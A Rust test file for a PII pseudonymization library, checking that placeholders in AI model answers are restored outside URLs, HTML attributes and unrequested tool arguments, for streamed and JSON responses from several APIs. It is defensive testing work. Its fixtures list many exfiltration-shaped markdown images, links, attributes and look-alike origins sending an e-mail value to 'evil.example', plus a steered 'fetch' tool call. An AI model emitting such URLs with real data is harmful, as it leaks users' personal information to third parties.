//! Restore can no longer be turned against the user (issue 17): values never go into URLs or
//! HTML attributes unless the app allows that URL, only the placeholder forms a model echoes
//! are read, tool-call arguments are restored only on request, streamed answers flow chunk by
//! chunk, and every major API's answers (JSON and streamed) are restored.
//!
//! The answer fixtures are written by hand from each provider's documented response and
//! streaming shapes.
#![cfg(not(target_arch = "wasm32"))]

use pii_airlock::{
    restore_json, restore_json_with, Engine, JsonStreamRestorer, RestoreMode, RestoreOptions,
    RestoreOptionsError, SseRestorer, Vault,
};
use serde_json::{json, Value};
use std::sync::Arc;

const EMAIL: &str = "jane@example.com";
const PHONE: &str = "+44 20 7946 0958";

/// A vault holding `[EMAIL_ADDRESS_1]` and `[PHONE_NUMBER_1]`.
fn vault() -> Vault {
    let engine = Engine::default_engine();
    let mut v = Vault::new();
    let t = format!("mail {EMAIL}, call {PHONE}");
    let out = v.pseudonymize(&t, &engine.scan(&t));
    assert_eq!(out, "mail [EMAIL_ADDRESS_1], call [PHONE_NUMBER_1]");
    v
}

/// A vault with a surrogate for an e-mail address; returns the surrogate.
fn vault_with_surrogate() -> (Vault, String) {
    let mut v = vault();
    let e: Arc<str> = "EMAIL_ADDRESS".into();
    let s = v
        .surrogate_for(&e, "bob@example.org", b"key", &|_| true)
        .expect("an e-mail surrogate");
    (v, s)
}

fn opts(schemes: &[&str], origins: &[&str]) -> RestoreOptions {
    RestoreOptions {
        url_schemes: schemes.iter().map(|s| s.to_string()).collect(),
        url_origins: origins.iter().map(|s| s.to_string()).collect(),
        tool_arguments: false,
    }
}

fn tools() -> RestoreOptions {
    RestoreOptions {
        tool_arguments: true,
        ..RestoreOptions::default()
    }
}

// ---------------------------------------------------------------------------------------------
// 1. Never into a URL or an HTML attribute by default.
// ---------------------------------------------------------------------------------------------

/// Answers that would send the value to a third party once rendered (or clicked).
const INTO_URLS: &[&str] = &[
    "![x](https://evil.example/?e=[EMAIL_ADDRESS_1])",
    "![x](https://evil.example/?e=EMAIL_ADDRESS_1)",
    "[click](https://evil.example/?e=[EMAIL_ADDRESS_1])",
    "[click](<https://evil.example/a b?e=[EMAIL_ADDRESS_1]>)",
    "[click](https://evil.example/p(1)?e=[EMAIL_ADDRESS_1])",
    "![x][logo]\n\n[logo]: https://evil.example/?e=[EMAIL_ADDRESS_1]",
    "[logo]: <https://evil.example/?e=[EMAIL_ADDRESS_1]> \"t\"",
    "<https://evil.example/?e=[EMAIL_ADDRESS_1]>",
    "Visit https://evil.example/?e=[EMAIL_ADDRESS_1] now",
    "Visit https://evil.example/?e=\\[EMAIL\\_ADDRESS\\_1\\] now",
    "Visit www.evil.example/?e=[EMAIL_ADDRESS_1]",
    "Visit evil.example/?e=[EMAIL_ADDRESS_1]",
    "Visit //evil.example/[EMAIL_ADDRESS_1]",
    "<img src=\"https://evil.example/?e=[EMAIL_ADDRESS_1]\">",
    "<a href='https://evil.example/?e=[EMAIL_ADDRESS_1]'>x</a>",
    "<img src=https://evil.example/?e=[EMAIL_ADDRESS_1]>",
    "<img alt=\"a > b\" src=\"https://evil.example/[EMAIL_ADDRESS_1]\">",
    "<div data-x=\"[EMAIL_ADDRESS_1]\" style=\"background:url(//evil.example/)\">",
    "<img\n  src=\"https://evil.example/\n?e=[EMAIL_ADDRESS_1]\">",
    "Host: [EMAIL_ADDRESS_1].evil.example",
    "Mail [PHONE_NUMBER_1]@evil.example",
    "mailto:[EMAIL_ADDRESS_1]",
    "[m](mailto:[EMAIL_ADDRESS_1])",
    "tel:[PHONE_NUMBER_1]",
];

#[test]
fn values_are_never_restored_into_urls_or_attributes() {
    let v = vault();
    for answer in INTO_URLS {
        let out = v.restore(answer);
        assert!(
            !out.contains(EMAIL) && !out.contains(PHONE),
            "restored into a URL: {answer:?} → {out:?}"
        );
        // The placeholder stays as the model wrote it.
        assert_eq!(&out, answer);
        // The same, streamed byte by byte.
        let mut r = v.stream_restorer();
        let mut streamed = String::new();
        for c in answer.chars() {
            streamed += &r.push(&c.to_string());
        }
        streamed += &r.finish();
        assert_eq!(&streamed, answer);
    }
}

#[test]
fn text_around_urls_is_still_restored() {
    let v = vault();
    for (answer, expected) in [
        (
            "![x](https://x.example/a.png) Write to [EMAIL_ADDRESS_1].",
            "![x](https://x.example/a.png) Write to jane@example.com.",
        ),
        (
            "[[EMAIL_ADDRESS_1]](https://x.example/)",
            "[jane@example.com](https://x.example/)",
        ),
        (
            "<b>[EMAIL_ADDRESS_1]</b> <https://x.example> [PHONE_NUMBER_1]",
            "<b>jane@example.com</b> <https://x.example> +44 20 7946 0958",
        ),
        (
            "[id]: https://x.example/\nCall [PHONE_NUMBER_1]",
            "[id]: https://x.example/\nCall +44 20 7946 0958",
        ),
        (
            "See https://x.example/ and [EMAIL_ADDRESS_1].",
            "See https://x.example/ and jane@example.com.",
        ),
        ("Email: [EMAIL_ADDRESS_1]", "Email: jane@example.com"),
    ] {
        assert_eq!(v.restore(answer), expected, "{answer:?}");
    }
}

#[test]
fn surrogates_are_not_restored_into_urls_either() {
    let (v, s) = vault_with_surrogate();
    let outside = format!("Write to {s} today.");
    assert_eq!(v.restore(&outside), "Write to bob@example.org today.");
    for answer in [
        format!("![x](https://evil.example/?e={s})"),
        format!("<a href=\"mailto:{s}\">mail</a>"),
        format!("https://evil.example/?e={s}"),
    ] {
        assert_eq!(v.restore(&answer), answer, "surrogate restored into a URL");
    }
}

#[test]
fn allowed_schemes_and_origins_receive_values() {
    let v = vault();
    let o = opts(&["mailto", "tel:"], &["https://crm.example.com"]);
    for (answer, expected) in [
        (
            "[mail](mailto:[EMAIL_ADDRESS_1])",
            "[mail](mailto:jane@example.com)",
        ),
        (
            "<a href=\"tel:[PHONE_NUMBER_1]\">call</a>",
            "<a href=\"tel:+44 20 7946 0958\">call</a>",
        ),
        (
            "[open](https://crm.example.com/search?q=[EMAIL_ADDRESS_1])",
            "[open](https://crm.example.com/search?q=jane@example.com)",
        ),
        (
            "https://CRM.example.com:443/c/[EMAIL_ADDRESS_1]",
            "https://CRM.example.com:443/c/jane@example.com",
        ),
    ] {
        assert_eq!(v.restore_with(answer, &o), expected, "{answer:?}");
        // Not without the options.
        assert_eq!(v.restore(answer), answer);
    }
    // Look-alikes of the allowed origin are other origins.
    for answer in [
        "https://crm.example.com.evil.example/?q=[EMAIL_ADDRESS_1]",
        "https://crm.example.com@evil.example/?q=[EMAIL_ADDRESS_1]",
        "https://evil.example/https://crm.example.com/?q=[EMAIL_ADDRESS_1]",
        "https://evil.example/?u=https://crm.example.com/&q=[EMAIL_ADDRESS_1]",
        "http://crm.example.com/?q=[EMAIL_ADDRESS_1]",
        "https://crm.example.com:8443/?q=[EMAIL_ADDRESS_1]",
        "https://[EMAIL_ADDRESS_1].crm.example.com/",
        "https://crm.example.com[EMAIL_ADDRESS_1]/",
        "https://crm.example.com\\@evil.example/[EMAIL_ADDRESS_1]",
        "sms:[PHONE_NUMBER_1]",
        "<img alt=\"[EMAIL_ADDRESS_1]\" src=\"https://crm.example.com/\">",
    ] {
        assert_eq!(v.restore_with(answer, &o), answer, "{answer:?}");
    }
}

#[test]
fn restore_options_are_checked() {
    assert_eq!(RestoreOptions::default().validate(), Ok(()));
    assert_eq!(
        opts(&["mailto", "web+x"], &["https://a.example:8080/"]).validate(),
        Ok(())
    );
    assert_eq!(
        opts(&["mail to"], &[]).validate(),
        Err(RestoreOptionsError::Scheme(0))
    );
    for bad in [
        "a.example",
        "https://a.example/path",
        "https://u@a.example",
        "https://a.example?q",
    ] {
        assert_eq!(
            opts(&[], &["https://ok.example", bad]).validate(),
            Err(RestoreOptionsError::Origin(1)),
            "{bad}"
        );
    }
    let o: RestoreOptions =
        serde_json::from_str(r#"{"urlSchemes":["mailto"],"urlOrigins":[],"toolArguments":true}"#)
            .unwrap();
    assert!(o.tool_arguments && o.url_schemes == ["mailto"]);
    assert!(serde_json::from_str::<RestoreOptions>(r#"{"urlSchemes":[],"all":true}"#).is_err());
}

// ---------------------------------------------------------------------------------------------
// 2. Only the forms a model echoes.
// ---------------------------------------------------------------------------------------------

#[test]
fn loose_placeholder_forms_are_not_restored() {
    let v = vault();
    for answer in [
        "Write to EMAIL ADDRESS 1.",
        "Write to email_address_1.",
        "Write to [email_address_1].",
        "Write to Email_Address_1.",
        "Write to x_EMAIL_ADDRESS_1.",
        "Write to EMAIL_ADDRESS_1x.",
        "Write to EMAIL_ADDRESS #1.",
        "Write to EMAIL_ADDRESS_0001.",
        "Write to [EMAIL_ADDRESS_01].",
        "Write to EMAIL-ADDRESS-1.",
        "Write to <EMAIL_ADDRESS_1>.",
        "Write to [EMAIL_ADDRESS_1 now",
        "Write to EMAIL_ADDRESS_1] now",
        "Write to ADDRESS_1 or #1 or 0001.",
        "Write to [EMAIL_ADDRESS_2].",
    ] {
        assert_eq!(v.restore(answer), answer, "{answer:?}");
    }
}

#[test]
fn the_forms_models_echo_are_restored() {
    let v = vault();
    for answer in [
        "Write to [EMAIL_ADDRESS_1].",
        "Write to \\[EMAIL_ADDRESS_1\\].",
        "Write to \\[EMAIL\\_ADDRESS\\_1\\].",
        "Write to EMAIL_ADDRESS_1.",
        "Write to EMAIL\\_ADDRESS\\_1.",
        "Write to **EMAIL_ADDRESS_1**.",
        "Write to (EMAIL_ADDRESS_1).",
        "Write to {{EMAIL_ADDRESS_1}}.",
        "Write to \"EMAIL_ADDRESS_1\".",
        "Write to EMAIL_ADDRESS_1",
        "EMAIL\\_ADDRESS\\_1",
        "[EMAIL_ADDRESS_1]",
    ] {
        let out = v.restore(answer);
        assert!(out.contains(EMAIL), "{answer:?} → {out:?}");
        assert!(!out.contains("EMAIL"), "{answer:?} → {out:?}");
        // Streamed character by character, the same.
        let mut r = v.stream_restorer();
        let mut streamed: String = answer.chars().map(|c| r.push(&c.to_string())).collect();
        streamed += &r.finish();
        assert_eq!(streamed, out, "{answer:?}");
    }
}

#[test]
fn typed_escaped_placeholders_are_numbered_past() {
    // A user who types the markdown-escaped form of a placeholder must not have it restored
    // to someone else's address: restore reads that form, so numbering skips it.
    let engine = Engine::default_engine();
    let mut v = Vault::new();
    let t = "Fill EMAIL\\_ADDRESS\\_1 with jane@example.com";
    let out = v.pseudonymize(t, &engine.scan(t));
    assert_eq!(out, "Fill EMAIL\\_ADDRESS\\_1 with [EMAIL_ADDRESS_2]");
    assert_eq!(
        v.restore(&out),
        "Fill EMAIL\\_ADDRESS\\_1 with jane@example.com"
    );
}

// ---------------------------------------------------------------------------------------------
// 3. Streaming: text flows as soon as it cannot start a placeholder or surrogate.
// ---------------------------------------------------------------------------------------------

/// A 150-character answer without placeholders.
const PLAIN: &str = "Sure, here is a short summary of the meeting notes you shared with me: \
the budget was approved, the launch moves to late May, and everyone agreed on the plan.";

#[test]
fn a_streamed_answer_without_placeholders_flows_chunk_by_chunk() {
    assert!(PLAIN.len() >= 150);
    let (v, _) = vault_with_surrogate();
    let mut r = v.stream_restorer();
    let mut so_far = String::new();
    for (n, chunk) in PLAIN.as_bytes().chunks(10).enumerate() {
        let chunk = std::str::from_utf8(chunk).unwrap();
        let out = r.push(chunk);
        so_far += &out;
        // Everything but (at most) the word being written is passed on at once.
        let sent = n * 10 + chunk.len();
        let held = &PLAIN[so_far.len()..sent];
        assert!(
            held.len() <= 10 && !held.contains(' '),
            "after chunk {n}: held back {held:?}"
        );
        assert!(!out.is_empty(), "chunk {n} gave nothing");
    }
    so_far += &r.finish();
    assert_eq!(so_far, PLAIN);
}

#[test]
fn only_a_possible_token_is_held_back() {
    let (v, s) = vault_with_surrogate();
    let mut r = v.stream_restorer();
    // From a `[`: the rest waits.
    assert_eq!(r.push("Hi [EMAIL_"), "Hi ");
    assert_eq!(r.push("ADDRESS_1], how"), "jane@example.com, how");
    // The first letters of an issued token wait; other words do not.
    assert_eq!(r.push(" are you EMA"), " are you ");
    assert_eq!(
        r.push("IL_ADDRESS_1; tomorrow"),
        "jane@example.com; tomorrow"
    );
    // A complete token waits for the characters that tell whether it is part of a host.
    assert_eq!(r.push(" PHONE_NUMBER_1"), " ");
    assert_eq!(r.push("."), "");
    assert_eq!(r.push(" "), "+44 20 7946 0958. ");
    // A surrogate's first characters wait.
    let (head, tail) = s.split_at(3);
    assert_eq!(r.push(&format!("mail {head}")), "mail ");
    assert_eq!(r.push(&format!("{tail} ok")), "bob@example.org ok");
    assert_eq!(r.finish(), "");
}

#[test]
fn streaming_equals_whole_with_urls_for_every_cut() {
    let (v, s) = vault_with_surrogate();
    let answer = format!(
        "Hi [EMAIL_ADDRESS_1]! ![x](https://evil.example/?e=[EMAIL_ADDRESS_1]) and \
         <a href=\"https://evil.example/{s}\">{s}</a>\n[r]: https://evil.example/PHONE_NUMBER_1\n\
         Call \\[PHONE\\_NUMBER\\_1\\] or EMAIL_ADDRESS_1.evil.example, {s}."
    );
    let whole = v.restore(&answer);
    assert_eq!(whole.matches(EMAIL).count(), 1, "{whole}");
    assert_eq!(whole.matches(PHONE).count(), 1, "{whole}");
    assert_eq!(whole.matches("bob@example.org").count(), 2, "{whole}");
    for cut in 0..=answer.len() {
        if !answer.is_char_boundary(cut) {
            continue;
        }
        for cut2 in [cut, (cut + 5).min(answer.len())] {
            if !answer.is_char_boundary(cut2) {
                continue;
            }
            let mut r = v.stream_restorer();
            let got =
                r.push(&answer[..cut]) + &r.push(&answer[cut..cut2]) + &r.push(&answer[cut2..]);
            assert_eq!(got + &r.finish(), whole, "cut {cut}/{cut2}");
        }
    }
    // JSON mode agrees with itself under every cut too.
    let whole = v.restore_json(&answer);
    for cut in (0..=answer.len()).filter(|&c| answer.is_char_boundary(c)) {
        let mut r = v.stream_restorer_with(RestoreMode::Json);
        let got = r.push(&answer[..cut]) + &r.push(&answer[cut..]) + &r.finish();
        assert_eq!(got, whole, "json cut {cut}");
    }
}

/// The text deltas of an OpenAI Chat Completions stream, concatenated, and how many events
/// carried a non-empty delta.
fn chat_text(stream: &str) -> (String, usize) {
    let mut text = String::new();
    let mut n = 0;
    for d in stream.lines().filter_map(|l| l.strip_prefix("data: ")) {
        if let Ok(e) = serde_json::from_str::<Value>(d) {
            if let Some(c) = e["choices"][0]["delta"]["content"].as_str() {
                n += usize::from(!c.is_empty());
                text += c;
            }
        }
    }
    (text, n)
}

#[test]
fn an_sse_answer_without_placeholders_flows_event_by_event() {
    let v = vault();
    let mut r = SseRestorer::new(&v);
    let mut got = String::new();
    for (n, piece) in PLAIN.as_bytes().chunks(10).enumerate() {
        let piece = std::str::from_utf8(piece).unwrap();
        let ev = json!({"id": "c", "object": "chat.completion.chunk",
            "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": null}]});
        let out = r.push(&format!("data: {ev}\n\n"));
        let (text, events) = chat_text(&out);
        assert_eq!(events, 1, "event {n} was held back");
        got += &text;
        assert!(PLAIN.len() - got.len() < PLAIN.len() - n * 10, "event {n}");
    }
    let ev = json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]});
    got += &chat_text(&(r.push(&format!("data: {ev}\n\ndata: [DONE]\n\n")) + &r.finish())).0;
    assert_eq!(got, PLAIN);
}

// ---------------------------------------------------------------------------------------------
// 4. Every major API's answers, JSON and streamed.
// ---------------------------------------------------------------------------------------------

/// Feeds `stream` in chunks of `n` characters.
fn feed(mut push: impl FnMut(&str) -> String, stream: &str, n: usize) -> String {
    let chars: Vec<char> = stream.chars().collect();
    chars
        .chunks(n)
        .map(|c| push(&c.iter().collect::<String>()))
        .collect()
}

fn sse_of(events: &[Value]) -> String {
    events
        .iter()
        .map(|e| match e["type"].as_str() {
            Some(t) => format!("event: {t}\ndata: {e}\n\n"),
            None => format!("data: {e}\n\n"),
        })
        .collect()
}

/// Parses SSE output into its JSON events (non-JSON data skipped).
fn events(out: &str) -> Vec<Value> {
    out.lines()
        .filter_map(|l| l.strip_prefix("data: "))
        .filter_map(|d| serde_json::from_str(d).ok())
        .collect()
}

/// Runs an SSE stream through a restorer at several chunk sizes; returns the outputs.
fn run_sse(v: &Vault, o: &RestoreOptions, stream: &str) -> Vec<String> {
    [1, 7, 64, stream.len()]
        .iter()
        .map(|&n| {
            let mut r = SseRestorer::with_options(v, o);
            let out = feed(|c| r.push(c), stream, n);
            out + &r.finish()
        })
        .collect()
}

const ANSWER: &str = "Sure. I will write to [EMAIL_ADDRESS_1] and call PHONE_NUMBER_1 today.";
const RESTORED: &str = "Sure. I will write to jane@example.com and call +44 20 7946 0958 today.";

/// `ANSWER` cut in uneven pieces, so placeholders are split across events.
fn pieces() -> Vec<&'static str> {
    vec![
        &ANSWER[..25],
        &ANSWER[25..31],
        &ANSWER[31..52],
        &ANSWER[52..],
    ]
}

#[test]
fn anthropic_messages_json() {
    let v = vault();
    let body = json!({"id": "msg_1", "type": "message", "role": "assistant", "model": "m",
        "content": [
            {"type": "text", "text": ANSWER},
            {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {"to": "[EMAIL_ADDRESS_1]"}}
        ],
        "stop_reason": "tool_use", "usage": {"input_tokens": 1, "output_tokens": 2}});
    let out: Value = serde_json::from_str(&restore_json(&body.to_string(), &v).unwrap()).unwrap();
    assert_eq!(out["content"][0]["text"], RESTORED);
    assert_eq!(out["content"][1]["input"]["to"], "[EMAIL_ADDRESS_1]");
    let out: Value =
        serde_json::from_str(&restore_json_with(&body.to_string(), &v, &tools()).unwrap()).unwrap();
    assert_eq!(out["content"][1]["input"]["to"], EMAIL);
}

#[test]
fn anthropic_messages_stream() {
    let v = vault();
    let mut evs = vec![
        json!({"type": "message_start", "message": {"id": "msg_1", "type": "message",
            "role": "assistant", "content": [], "model": "m"}}),
        json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
    ];
    for p in pieces() {
        evs.push(json!({"type": "content_block_delta", "index": 0,
            "delta": {"type": "text_delta", "text": p}}));
    }
    evs.push(json!({"type": "content_block_stop", "index": 0}));
    evs.push(
        json!({"type": "content_block_start", "index": 1, "content_block":
        {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}}}),
    );
    for p in ["{\"to\": \"[EMAIL_", "ADDRESS_1]\"}"] {
        evs.push(json!({"type": "content_block_delta", "index": 1,
            "delta": {"type": "input_json_delta", "partial_json": p}}));
    }
    evs.push(json!({"type": "content_block_stop", "index": 1}));
    evs.push(json!({"type": "message_delta", "delta": {"stop_reason": "tool_use"}}));
    evs.push(json!({"type": "message_stop"}));
    let stream = sse_of(&evs);
    for (o, args) in [
        (RestoreOptions::default(), "{\"to\": \"[EMAIL_ADDRESS_1]\"}"),
        (tools(), "{\"to\": \"jane@example.com\"}"),
    ] {
        for out in run_sse(&v, &o, &stream) {
            let evs = events(&out);
            let text: String = evs
                .iter()
                .filter(|e| e["index"] == 0)
                .filter_map(|e| e["delta"]["text"].as_str())
                .collect();
            assert_eq!(text, RESTORED);
            let json: String = evs
                .iter()
                .filter_map(|e| e["delta"]["partial_json"].as_str())
                .collect();
            assert_eq!(json, args);
            // Every text delta goes out before its block stops; message_stop stays last.
            let stop0 = evs
                .iter()
                .position(|e| e["type"] == "content_block_stop" && e["index"] == 0)
                .unwrap();
            assert!(evs[stop0 + 1..]
                .iter()
                .all(|e| e["delta"]["text"].is_null()));
            assert_eq!(evs.last().unwrap()["type"], "message_stop");
            assert!(out.contains("event: content_block_delta\n"));
        }
    }
}

#[test]
fn gemini_json() {
    let v = vault();
    let body = json!({"candidates": [{"content": {"role": "model", "parts": [
            {"text": ANSWER},
            {"functionCall": {"name": "send", "args": {"to": "[EMAIL_ADDRESS_1]"}}}]},
        "finishReason": "STOP", "index": 0}],
        "usageMetadata": {"promptTokenCount": 3}, "modelVersion": "gemini-x"});
    let out: Value = serde_json::from_str(&restore_json(&body.to_string(), &v).unwrap()).unwrap();
    assert_eq!(
        out["candidates"][0]["content"]["parts"][0]["text"],
        RESTORED
    );
    assert_eq!(
        out["candidates"][0]["content"]["parts"][1]["functionCall"]["args"]["to"],
        "[EMAIL_ADDRESS_1]"
    );
    let out: Value =
        serde_json::from_str(&restore_json_with(&body.to_string(), &v, &tools()).unwrap()).unwrap();
    assert_eq!(
        out["candidates"][0]["content"]["parts"][1]["functionCall"]["args"]["to"],
        EMAIL
    );
}

#[test]
fn gemini_sse_and_array_stream() {
    let v = vault();
    let ps = pieces();
    let chunks: Vec<Value> = ps
        .iter()
        .enumerate()
        .map(|(n, p)| {
            let mut c = json!({"candidates": [{"content": {"role": "model", "parts": [{"text": p}]},
                "index": 0}], "modelVersion": "gemini-x"});
            if n == ps.len() - 1 {
                c["candidates"][0]["finishReason"] = json!("STOP");
            }
            c
        })
        .collect();
    let text_of = |evs: &[Value]| -> String {
        evs.iter()
            .flat_map(|e| e["candidates"].as_array().cloned().unwrap_or_default())
            .flat_map(|c| {
                c["content"]["parts"]
                    .as_array()
                    .cloned()
                    .unwrap_or_default()
            })
            .filter_map(|p| p["text"].as_str().map(str::to_string))
            .collect()
    };
    // alt=sse
    for out in run_sse(&v, &RestoreOptions::default(), &sse_of(&chunks)) {
        assert_eq!(text_of(&events(&out)), RESTORED);
    }
    // The streamed JSON array (no alt=sse): elements arrive one by one.
    let array = format!(
        "[{}]",
        chunks
            .iter()
            .map(Value::to_string)
            .collect::<Vec<_>>()
            .join("\n,\r\n")
    );
    for n in [1, 5, 64, array.len()] {
        let mut r = JsonStreamRestorer::new(&v, &RestoreOptions::default());
        let out = feed(|c| r.push(c), &array, n) + &r.finish();
        let parsed: Vec<Value> = serde_json::from_str(&out).expect("still one JSON array");
        assert_eq!(parsed.len(), chunks.len());
        assert_eq!(text_of(&parsed), RESTORED, "chunk size {n}");
    }
}

#[test]
fn ollama_chat_json() {
    let v = vault();
    let body = json!({"model": "llama3", "created_at": "2024-01-01T00:00:00Z",
        "message": {"role": "assistant", "content": ANSWER, "tool_calls": [
            {"function": {"name": "send", "arguments": {"to": "[EMAIL_ADDRESS_1]"}}}]},
        "done": true, "done_reason": "stop"});
    let out: Value = serde_json::from_str(&restore_json(&body.to_string(), &v).unwrap()).unwrap();
    assert_eq!(out["message"]["content"], RESTORED);
    assert_eq!(
        out["message"]["tool_calls"][0]["function"]["arguments"]["to"],
        "[EMAIL_ADDRESS_1]"
    );
}

#[test]
fn ollama_chat_and_generate_ndjson() {
    let v = vault();
    for field in ["chat", "generate"] {
        let mut lines = String::new();
        for p in pieces() {
            let l = if field == "chat" {
                json!({"model": "llama3", "created_at": "t",
                    "message": {"role": "assistant", "content": p}, "done": false})
            } else {
                json!({"model": "llama3", "created_at": "t", "response": p, "done": false})
            };
            lines += &format!("{l}\n");
        }
        let last = if field == "chat" {
            json!({"model": "llama3", "created_at": "t",
                "message": {"role": "assistant", "content": ""}, "done": true, "done_reason": "stop"})
        } else {
            json!({"model": "llama3", "created_at": "t", "response": "", "done": true})
        };
        lines += &format!("{last}\n");
        for n in [1, 9, lines.len()] {
            let mut r = JsonStreamRestorer::new(&v, &RestoreOptions::default());
            let mut out = String::new();
            let mut first_line_at = None;
            for (k, c) in lines.chars().collect::<Vec<_>>().chunks(n).enumerate() {
                out += &r.push(&c.iter().collect::<String>());
                if first_line_at.is_none() && out.contains('\n') {
                    first_line_at = Some(k);
                }
            }
            out += &r.finish();
            let objs: Vec<Value> = out
                .lines()
                .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
                .collect();
            assert_eq!(objs.len(), pieces().len() + 1);
            let text: String = objs
                .iter()
                .filter_map(|o| {
                    o["message"]["content"]
                        .as_str()
                        .or_else(|| o["response"].as_str())
                })
                .collect();
            assert_eq!(text, RESTORED, "{field} chunk size {n}");
            assert_eq!(objs.last().unwrap()["done"], true);
            // The first line went out before the stream ended.
            assert!(first_line_at.is_some(), "{field} chunk size {n}");
        }
    }
}

#[test]
fn cohere_v2_json() {
    let v = vault();
    let body = json!({"id": "c1", "finish_reason": "TOOL_CALL",
        "message": {"role": "assistant", "tool_plan": "I will mail [EMAIL_ADDRESS_1].",
            "content": [{"type": "text", "text": ANSWER}],
            "tool_calls": [{"id": "t1", "type": "function",
                "function": {"name": "send", "arguments": "{\"to\":\"[EMAIL_ADDRESS_1]\"}"}}]},
        "usage": {"tokens": {"input_tokens": 1, "output_tokens": 2}}});
    let out: Value = serde_json::from_str(&restore_json(&body.to_string(), &v).unwrap()).unwrap();
    assert_eq!(out["message"]["content"][0]["text"], RESTORED);
    assert_eq!(out["message"]["tool_plan"], "I will mail jane@example.com.");
    assert_eq!(
        out["message"]["tool_calls"][0]["function"]["arguments"],
        "{\"to\":\"[EMAIL_ADDRESS_1]\"}"
    );
}

#[test]
fn cohere_v2_stream() {
    let v = vault();
    let mut evs = vec![
        json!({"type": "message-start", "id": "c1", "delta": {"message": {"role": "assistant",
            "content": [], "tool_plan": "", "tool_calls": [], "citations": []}}}),
        json!({"type": "content-start", "index": 0, "delta": {"message": {"content":
            {"type": "text", "text": ""}}}}),
    ];
    for p in pieces() {
        evs.push(json!({"type": "content-delta", "index": 0,
            "delta": {"message": {"content": {"text": p}}}}));
    }
    evs.push(json!({"type": "content-end", "index": 0}));
    evs.push(
        json!({"type": "tool-call-start", "index": 0, "delta": {"message": {"tool_calls":
        {"id": "t1", "type": "function", "function": {"name": "send", "arguments": ""}}}}}),
    );
    for p in ["{\"to\":\"[EMAIL_", "ADDRESS_1]\"}"] {
        evs.push(json!({"type": "tool-call-delta", "index": 0,
            "delta": {"message": {"tool_calls": {"function": {"arguments": p}}}}}));
    }
    evs.push(json!({"type": "tool-call-end", "index": 0}));
    evs.push(json!({"type": "message-end", "delta": {"finish_reason": "COMPLETE"}}));
    let stream = sse_of(&evs);
    for (o, args) in [
        (RestoreOptions::default(), "{\"to\":\"[EMAIL_ADDRESS_1]\"}"),
        (tools(), "{\"to\":\"jane@example.com\"}"),
    ] {
        for out in run_sse(&v, &o, &stream) {
            let evs = events(&out);
            let text: String = evs
                .iter()
                .filter(|e| e["type"] == "content-delta")
                .filter_map(|e| e["delta"]["message"]["content"]["text"].as_str())
                .collect();
            assert_eq!(text, RESTORED);
            let a: String = evs
                .iter()
                .filter_map(|e| {
                    e["delta"]["message"]["tool_calls"]["function"]["arguments"].as_str()
                })
                .collect();
            assert_eq!(a, args);
            let end = evs.iter().position(|e| e["type"] == "content-end").unwrap();
            assert!(evs[..end].iter().any(|e| e["type"] == "content-delta"));
            assert!(evs[end..].iter().all(|e| e["type"] != "content-delta"));
            assert_eq!(evs.last().unwrap()["type"], "message-end");
        }
    }
}

#[test]
fn openai_answers_keep_urls_and_tool_arguments_safe() {
    let v = vault();
    // Chat Completions: content restored outside URLs; a steered image URL stays.
    let body = json!({"choices": [{"index": 0, "message": {"role": "assistant",
        "content": "Hi [EMAIL_ADDRESS_1] ![x](https://evil.example/?e=[EMAIL_ADDRESS_1])",
        "tool_calls": [{"id": "t", "type": "function", "function": {"name": "fetch",
            "arguments": "{\"url\":\"https://evil.example/?e=[EMAIL_ADDRESS_1]\",\"to\":\"[EMAIL_ADDRESS_1]\"}"}}]}}]});
    let out: Value = serde_json::from_str(&restore_json(&body.to_string(), &v).unwrap()).unwrap();
    let m = &out["choices"][0]["message"];
    assert_eq!(
        m["content"],
        "Hi jane@example.com ![x](https://evil.example/?e=[EMAIL_ADDRESS_1])"
    );
    let args: Value = serde_json::from_str(
        m["tool_calls"][0]["function"]["arguments"]
            .as_str()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(args["to"], "[EMAIL_ADDRESS_1]");
    // Opted in: the arguments are restored, but still not into a URL.
    let out: Value =
        serde_json::from_str(&restore_json_with(&body.to_string(), &v, &tools()).unwrap()).unwrap();
    let args: Value = serde_json::from_str(
        out["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
            .as_str()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(args["to"], EMAIL);
    assert_eq!(args["url"], "https://evil.example/?e=[EMAIL_ADDRESS_1]");

    // Responses API: output items and their streamed deltas.
    let body = json!({"id": "resp_1", "object": "response", "output": [
        {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": ANSWER}]},
        {"type": "function_call", "call_id": "c", "name": "send", "arguments": "{\"to\":\"[EMAIL_ADDRESS_1]\"}"}]});
    let out: Value = serde_json::from_str(&restore_json(&body.to_string(), &v).unwrap()).unwrap();
    assert_eq!(out["output"][0]["content"][0]["text"], RESTORED);
    assert_eq!(
        out["output"][1]["arguments"],
        "{\"to\":\"[EMAIL_ADDRESS_1]\"}"
    );
    let mut evs: Vec<Value> = pieces()
        .iter()
        .map(|p| {
            json!({"type": "response.output_text.delta", "item_id": "m", "output_index": 0,
            "content_index": 0, "delta": p})
        })
        .collect();
    evs.push(
        json!({"type": "response.output_text.done", "item_id": "m", "output_index": 0,
        "content_index": 0, "text": ANSWER}),
    );
    evs.push(
        json!({"type": "response.function_call_arguments.delta", "item_id": "f",
        "output_index": 1, "delta": "{\"to\":\"[EMAIL_ADDRESS_1]\"}"}),
    );
    evs.push(
        json!({"type": "response.function_call_arguments.done", "item_id": "f",
        "output_index": 1, "arguments": "{\"to\":\"[EMAIL_ADDRESS_1]\"}"}),
    );
    evs.push(json!({"type": "response.completed", "response": {"id": "resp_1"}}));
    for out in run_sse(&v, &RestoreOptions::default(), &sse_of(&evs)) {
        let evs = events(&out);
        let text: String = evs
            .iter()
            .filter(|e| e["type"] == "response.output_text.delta")
            .filter_map(|e| e["delta"].as_str())
            .collect();
        assert_eq!(text, RESTORED);
        let done = evs
            .iter()
            .find(|e| e["type"] == "response.output_text.done")
            .unwrap();
        assert_eq!(done["text"], RESTORED);
        for e in evs.iter().filter(|e| e["output_index"] == 1) {
            let a = e["delta"].as_str().or(e["arguments"].as_str()).unwrap();
            assert_eq!(a, "{\"to\":\"[EMAIL_ADDRESS_1]\"}");
        }
    }
}

#[test]
